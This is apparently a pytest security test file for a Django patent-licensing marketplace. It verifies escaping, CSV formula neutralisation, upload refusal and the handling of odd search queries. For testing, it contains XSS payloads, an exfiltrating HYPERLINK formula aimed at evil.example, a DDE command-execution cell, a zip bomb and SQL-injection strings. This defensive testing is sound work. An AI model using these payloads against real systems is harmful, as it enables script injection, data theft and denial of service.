"""Hostile input: markup stays text, spreadsheets get no formulas, bad files and
odd queries are handled.

- Script/HTML in every free-text field is escaped on every page that shows
  it (a crawl as four roles, see crawl.py) and stays plain data in the API.
- Every CSV export neutralises cells that a spreadsheet would run.
- Oversize and malformed imports and attachments are refused with a message
  and leave no listing or attachment behind.
- Long and odd search queries get normal answers from the page and the API,
  and the Elasticsearch query builder turns them into a body without error.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.test import Client, TestCase
from django.urls import reverse

from accounts.models import Organization
from listings.models import ImportJob, Listing
from marketplace.models import RequestMessage
from matching.models import Need
from search.models import SavedSearch
from search.services import search_index_listings
from tests.factories.accounts import (
    AdminUserFactory,
    CompanyFactory,
    UniversityFactory,
    member_of,
)
from tests.factories.listings import ListingFactory, add_ipc
from tests.factories.marketplace import LicenseRequestFactory, RequestMessageFactory
from tests.factories.matching import NeedFactory
from tests.security.crawl import argless_urls, crawl

pytestmark = pytest.mark.django_db

RAW_SCRIPT = "<script>alert("
RAW_IMG = "<img src=x onerror"


def payload(key: str) -> str:
    """The hostile text for one field, tagged with the field's name."""
    return f'<script>alert("{key}")</script><img src=x onerror=alert(1)>"\'& 電池'


def escaped_marker(key: str) -> str:
    """How the start of ``payload(key)`` looks once Django has escaped it."""
    return f"&lt;script&gt;alert(&quot;{key}&quot;)&lt;/script&gt;"


def _text_fields(model, skip=()) -> list[str]:
    marker_len = len(payload("x" * 20))
    return [
        f.name
        for f in model._meta.fields
        if isinstance(f, models.CharField | models.TextField)
        and not f.choices
        and f.name not in skip
        and (f.max_length is None or f.max_length >= marker_len)
    ]


def _english(client):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


# --- Markup in free text ------------------------------------------------------


@pytest.fixture
def hostile(db):
    """Organisations, people, a listing, a need, a request, a saved search and
    an import job, every free-text field holding markup."""
    university = UniversityFactory(
        name_ja=payload("org_name_ja"), name_en=payload("org_name_en")
    )
    company = CompanyFactory(
        name_ja=payload("company_name_ja"), name_en=payload("company_name_en")
    )
    tlo = member_of(university, role="owner", display_name=payload("tlo_name"))
    buyer = member_of(company, role="owner", display_name=payload("company_user"))
    admin = AdminUserFactory(display_name=payload("admin_name"))
    listing_fields = _text_fields(Listing, skip=("contact_email", "source_id"))
    listing = ListingFactory(
        owner=university,
        **{name: payload(f"listing_{name}") for name in listing_fields},
    )
    add_ipc(listing, "H01M 10/052")
    search_index_listings(listing_ids=[listing.pk])
    need = NeedFactory(
        organization=company,
        created_by=buyer,
        title=payload("need_title"),
        problem=payload("need_problem"),
    )
    request_fields = _text_fields(type(LicenseRequestFactory._meta.model()))
    license_request = LicenseRequestFactory(
        listing=listing,
        organization=company,
        created_by=buyer,
        **{name: payload(f"request_{name}") for name in request_fields},
    )
    RequestMessageFactory(
        request=license_request, author=buyer, body=payload("message_body")
    )
    saved = SavedSearch.objects.create(
        user=buyer, name=payload("saved_search_name"), query="電池"
    )
    # An import whose rejected row echoes hostile values on the job page.
    client = Client()
    client.force_login(tlo)
    record = {
        "number": "JP2010019680A",
        "title": payload("import_title"),
        "abstract": payload("import_abstract"),
        "date": payload("import_date")[:60],
        "lang": "ja",
    }
    with TestCase.captureOnCommitCallbacks(execute=True):
        client.post(
            reverse("listings:import_upload"),
            {
                "format": "jsonl",
                "file": SimpleUploadedFile(
                    "rows.jsonl", json.dumps(record, ensure_ascii=False).encode()
                ),
            },
        )
    job = ImportJob.objects.get(owner=university)
    return {
        "university": university,
        "company": company,
        "tlo": tlo,
        "buyer": buyer,
        "admin": admin,
        "listing": listing,
        "listing_fields": listing_fields,
        "need": need,
        "request": license_request,
        "saved": saved,
        "job": job,
    }


def _object_urls(h) -> list[str]:
    urls = [
        h["listing"].get_absolute_url(),
        "/search/?q=%E9%9B%BB%E6%B1%A0",  # 電池: highlighted snippets
        "/search/?q=script",
        "/search/?q=alert+onerror",
        "/search/?q=lt",
        f"/requests/{h['request'].pk}/",
        h["job"].get_absolute_url(),
        f"/accounts/organizations/{h['university'].slug}/",
        f"/accounts/organizations/{h['company'].slug}/",
    ]
    for model in (Listing, Need, Organization, SavedSearch, RequestMessage):
        meta = model._meta
        urls.append(f"/admin/{meta.app_label}/{meta.model_name}/")
    urls.append(f"/admin/listings/listing/{h['listing'].pk}/change/")
    urls.append(f"/admin/matching/need/{h['need'].pk}/change/")
    urls.append(f"/admin/accounts/user/{h['buyer'].pk}/change/")
    for name in ("need_detail", "need_edit"):
        try:
            urls.append(reverse(f"matching:{name}", args=[h["need"].pk]))
        except Exception:  # noqa: BLE001 - the URL name may not exist
            pass
    return urls


def test_markup_in_free_text_is_escaped_on_every_page(hostile):
    h = hostile
    start = _object_urls(h) + ["/", *argless_urls()]
    seen: dict[str, str] = {}
    problems = []
    for role in ("anonymous", "buyer", "tlo", "admin"):
        client = Client()
        if role != "anonymous":
            client.force_login(h[role])
        for url, page in crawl(client, start=list(start), per_pattern=1).items():
            if page.status >= 500:
                problems.append(f"{role} {url}: HTTP {page.status}")
            if not page.html:
                continue
            if RAW_SCRIPT in page.html or RAW_IMG in page.html:
                at = page.html.find(RAW_SCRIPT)
                problems.append(
                    f"{role} {url}: raw markup: {page.html[at - 60 : at + 60]!r}"
                )
            problems.extend(f"{role} {url}: {p}" for p in page.inline_problems)
            seen[f"{role} {url}"] = page.html
    assert not problems, "\n".join(problems)
    everything = "\n".join(seen.values())
    shown = [
        "org_name_ja",
        "company_name_ja",
        "tlo_name",
        "company_user",
        "listing_title",
        "listing_summary",
        "listing_overview",
        "need_title",
        "need_problem",
        "request_field_of_use",
        "message_body",
        "saved_search_name",
        "import_date",
    ]
    never_seen = [key for key in shown if escaped_marker(key) not in everything]
    assert not never_seen, f"payloads not found on any page: {never_seen}"


def test_search_highlighting_escapes_markup(hostile):
    client = _english(Client())
    for query in ("電池", "script", "alert", "lt", "quot", "amp"):
        html = client.get("/search/", {"q": query}).content.decode()
        assert RAW_SCRIPT not in html and RAW_IMG not in html, query
    html = client.get("/search/", {"q": "電池"}).content.decode()
    assert "<mark>" in html and "&lt;script&gt;" in html


def test_api_returns_the_markup_as_plain_data(hostile, api_client):
    listing = hostile["listing"]
    response = api_client.get(f"/api/v1/listings/{listing.pk}/")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    data = response.json()
    assert data["title"] == payload("listing_title")
    assert data["summary"] == payload("listing_summary")
    # Search snippets are HTML (escaped text plus <mark>): no raw markup in them.
    response = api_client.get("/api/v1/search/", {"q": "電池"})
    assert response.status_code == 200
    results = response.json()["results"]
    assert any(item["id"] == listing.pk for item in results)
    for item in results:
        for snippets in (item.get("highlight") or {}).values():
            for snippet in snippets:
                assert RAW_SCRIPT not in snippet and RAW_IMG not in snippet
                assert "<" not in snippet.replace("<mark>", "").replace("</mark>", "")
    api_client.force_login(hostile["buyer"])
    saved = api_client.get("/api/v1/saved-searches/").json()["results"]
    assert saved[0]["name"] == payload("saved_search_name")


# --- Spreadsheet formulas in exports ---------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _rows(response) -> list[list[str]]:
    body = (
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _assert_neutralised(rows, originals):
    cells = [cell for row in rows for cell in row]
    for original in originals:
        assert original not in cells, f"formula left as is: {original!r}"
        assert "'" + original in cells, f"formula missing from export: {original!r}"
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r", "＝")), cell
        if cell.startswith("-"):
            float(cell)  # only a plain negative number may start with "-"


@pytest.fixture
def formula_listings(university, tlo_owner):
    listings = [
        ListingFactory(owner=university, title=formula, summary=formula)
        for formula in FORMULAS
    ]
    return listings


def test_listings_csv_export_neutralises_formulas(client, tlo_owner, formula_listings):
    client.force_login(tlo_owner)
    response = client.get(reverse("listings:export_csv"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    _assert_neutralised(_rows(response), FORMULAS)


def test_listings_export_command_neutralises_formulas(formula_listings, tmp_path):
    from django.core.management import call_command

    out = tmp_path / "export.csv"
    call_command("listings_export", "--format", "csv", "--output", str(out))
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    _assert_neutralised(rows, FORMULAS)


def test_analytics_csv_neutralises_formulas(client, tlo_owner, formula_listings):
    client.force_login(tlo_owner)
    response = client.get(reverse("marketplace:analytics_csv"))
    assert response.status_code == 200
    _assert_neutralised(_rows(response), FORMULAS)


# --- Oversize and malformed uploads ----------------------------------------------


def _zip_bomb() -> bytes:
    """A small zip that would inflate to 20 MB of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("rows.csv", b"0" * (20 * 1024 * 1024))
    return buffer.getvalue()


BAD_IMPORTS = {
    "latin1_jsonl": ("rows.jsonl", "jsonl", '{"title": "Caf\xe9"}'.encode("latin-1")),
    "utf16_csv": ("rows.csv", "csv", "タイトル,概要\n".encode("utf-16")),
    "png_as_csv": ("rows.csv", "csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8),
    "elf_as_jsonl": ("rows.jsonl", "jsonl", b"\x7fELF\x02\x01\x01" + b"\x00" * 500),
    "zip_bomb_as_csv": ("rows.csv", "csv", _zip_bomb()),
    "zip_bomb_as_inpit": ("rows.csv", "inpit_csv", _zip_bomb()),
    "wrong_columns": ("rows.csv", "csv", b"foo,bar,baz\n1,2,3\n"),
    "wrong_columns_inpit": ("rows.csv", "inpit_csv", b"foo,bar\n1,2\n"),
    "not_json": ("rows.jsonl", "jsonl", b"{this is not json\n"),
    "empty": ("rows.csv", "csv", b""),
}


def _import(client, name, fmt, content):
    with TestCase.captureOnCommitCallbacks(execute=True):
        return client.post(
            reverse("listings:import_upload"),
            {"format": fmt, "file": SimpleUploadedFile(name, content)},
        )


@pytest.mark.parametrize("case", list(BAD_IMPORTS))
def test_malformed_import_is_refused_with_a_message(client, tlo_owner, case):
    name, fmt, content = BAD_IMPORTS[case]
    client.force_login(tlo_owner)
    _english(client)
    response = _import(client, name, fmt, content)
    assert Listing.objects.count() == 0
    job = ImportJob.objects.first()
    if response.status_code == 200:  # refused by the form
        assert job is None
        assert response.context["form"].errors
        return
    assert response.status_code == 302
    assert job.status == ImportJob.Status.FAILED, (job.status, job.message)
    message = job.message or " ".join(e["message"] for e in job.errors)
    assert message.strip()
    page = client.get(job.get_absolute_url()).content.decode()
    assert page.count(message.split("\n")[0][:40]) or any(
        e["message"][:40] in page for e in job.errors
    )


def test_oversize_import_is_refused_and_nothing_stored(
    client, tlo_owner, settings, tmp_path
):
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"
    settings.LISTINGS_IMPORT_UPLOAD_MAX_BYTES = 1024
    client.force_login(tlo_owner)
    response = _import(client, "rows.jsonl", "jsonl", b'{"title": "x"}\n' * 200)
    assert response.status_code == 200
    assert response.context["form"].errors
    assert not ImportJob.objects.exists()
    assert Listing.objects.count() == 0
    private = settings.PRIVATE_MEDIA_ROOT / "imports"
    assert not private.exists() or not any(private.rglob("*.*"))


BAD_ATTACHMENTS = {
    "too_big": ("report.pdf", b"%PDF-" + b"0" * 3000),
    "exe": ("setup.exe", b"MZ\x90\x00" + b"\x00" * 100),
    "exe_named_pdf": ("report.pdf", b"MZ\x90\x00" + b"\x00" * 100),
    "html_named_png": ("photo.png", b"<html><script>alert(1)</script></html>"),
    "svg": (
        "drawing.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    ),
    "binary_named_txt": ("notes.txt", b"\x00\x01\x02\x03" * 50),
    "double_extension": ("invoice.pdf.exe", b"%PDF-1.7\n"),
}


@pytest.mark.parametrize("case", list(BAD_ATTACHMENTS))
def test_bad_attachment_is_refused_with_a_message(
    client, company_staff, tlo_staff, university, company, settings, case, tmp_path
):
    from marketplace.models import RequestAttachment

    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"
    settings.REQUEST_ATTACHMENT_MAX_BYTES = 2048
    listing = ListingFactory(owner=university)
    license_request = LicenseRequestFactory(
        listing=listing, organization=company, created_by=company_staff
    )
    name, content = BAD_ATTACHMENTS[case]
    client.force_login(company_staff)
    _english(client)
    response = client.post(
        reverse("marketplace:request_message", args=[license_request.pk]),
        {"body": "資料を添付します", "files": [SimpleUploadedFile(name, content)]},
        follow=True,
    )
    assert response.status_code == 200
    text = response.content.decode()
    assert any(
        phrase in text
        for phrase in (
            "not allowed",
            "larger than",
            "does not match",
            "could not be posted",
        )
    ), text[:2000]
    assert not RequestAttachment.objects.exists()
    assert not RequestMessage.objects.filter(request=license_request).exists()
    private = settings.PRIVATE_MEDIA_ROOT
    assert not private.exists() or not any(p.is_file() for p in private.rglob("*"))


# --- Odd search queries -------------------------------------------------------------

ODD_QUERIES = {
    "unbalanced_quote": '"電池',
    "lone_quotes": '"""',
    "sql": "' OR 1=1 --",
    "sql_union": "電池'; DROP TABLE listings_listing; --",
    "fts_near": "NEAR(電池 固体",
    "fts_star": "*",
    "fts_prefix_only": "電*",
    "fts_operators": "AND OR NOT ^ : - +",
    "fts_column": "title:電池",
    "parens": "((((",
    "backslashes": "\\\\\\",
    "percent": "%_%",
    "control": "電池\x01\x02\x1b[31m",
    "nul": "電\x00池",
    "long": "電池" * 5000,
    "long_words": " ".join(["battery"] * 2000),
    "emoji": "🔋⚡️👩‍🔬 電池",
    "rtl": "\u202e電池\u200fمرحبا\u202c",
    "zero_width": "電\u200b池\ufeff",
    "only_spaces": "   \u3000  ",
    "lucene": "title:(a OR b) AND NOT c~2 /re.*ge/ [1 TO 5] {a TO b}",
}


@pytest.fixture
def searchable(university):
    listing = ListingFactory(owner=university, title="全固体電池の電解質")
    search_index_listings(listing_ids=[listing.pk])
    return listing


@pytest.mark.parametrize("case", list(ODD_QUERIES))
def test_odd_queries_get_normal_answers(client, api_client, searchable, case):
    query = ODD_QUERIES[case]
    page = client.get("/search/", {"q": query})
    assert page.status_code == 200
    api = api_client.get("/api/v1/search/", {"q": query})
    assert api.status_code in (200, 400), api.content[:300]
    if api.status_code == 400:  # refused as input, with the stable error shape
        assert api.json()["code"] == "validation_error"
    else:
        assert "results" in api.json()


@pytest.mark.parametrize("kuromoji", [False, True])
@pytest.mark.parametrize("case", list(ODD_QUERIES))
def test_elasticsearch_query_builder_accepts_odd_queries(case, kuromoji):
    from search.backends.base import SearchQuery
    from search.backends.elasticsearch import build_search

    search = build_search(SearchQuery(text=ODD_QUERIES[case]), kuromoji=kuromoji)
    body = search.to_dict()
    json.dumps(body)  # a body the client can send as it is
    # The text is only ever data: no query_string/simple_query_string parses it.
    assert "query_string" not in json.dumps(body)


def test_landscape_exports_neutralise_formulas_and_escape_markup(client):
    """The landscape's CSV tables and SVG charts carry organisation names."""
    from tests.security.crawl import parse

    formula = '=HYPERLINK("http://evil.example","x")'
    university = UniversityFactory(name_ja=formula, name_en=formula)
    hostile_university = UniversityFactory(
        name_ja=payload("landscape_org"), name_en=payload("landscape_org_en")
    )
    for owner in (university, hostile_university):
        listing = ListingFactory(owner=owner)
        add_ipc(listing, "H01M 10/052")
    page = client.get("/landscape/")
    assert page.status_code == 200
    html = page.content.decode()
    assert RAW_SCRIPT not in html and RAW_IMG not in html
    exports = sorted(
        {
            link.split("?")[0]
            for link in parse(html).links
            if link.startswith("/landscape/export/")
        }
    )
    assert any(link.endswith(".csv") for link in exports), exports
    cells = []
    for link in exports:
        response = client.get(link)
        assert response.status_code == 200, link
        body = response.content.decode("utf-8-sig")
        if link.endswith(".csv"):
            rows = list(csv.reader(io.StringIO(body, newline="")))
            cells.extend(cell for row in rows for cell in row)
        else:
            assert RAW_SCRIPT not in body and RAW_IMG not in body, link
            assert not parse(body).problems, (link, parse(body).problems)
    assert formula not in cells
    assert "'" + formula in cells
